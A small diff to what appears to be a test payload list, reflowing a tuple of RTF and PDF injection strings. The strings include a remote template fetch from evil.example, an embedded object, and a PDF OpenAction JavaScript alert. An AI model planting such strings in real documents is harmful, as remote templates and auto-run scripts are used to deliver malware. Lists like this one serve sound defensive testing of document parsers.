@@ -54,7 +54,8 @@ PAYLOADS = (
     # groups, objects and characters of RTF
     r"}}}{\object\objocx\bin3 abc}", r"{\*\template https://evil.example/t.dot}", r"\'7b\u123?\par\page\cell\row",
     # markup and actions of PDF
-    "#link(\"https://evil.example\")[x]", "\\u{41} /* c */ // d", ") /S /JavaScript /JS (app.alert(1)) /OpenAction", "a_x000D_b",
+    "#link(\"https://evil.example\")[x]", "\\u{41} /* c */ // d", ") /S /JavaScript /JS (app.alert(1)) /OpenAction",
+    "a_x000D_b",
 )  # fmt: skip
 
 
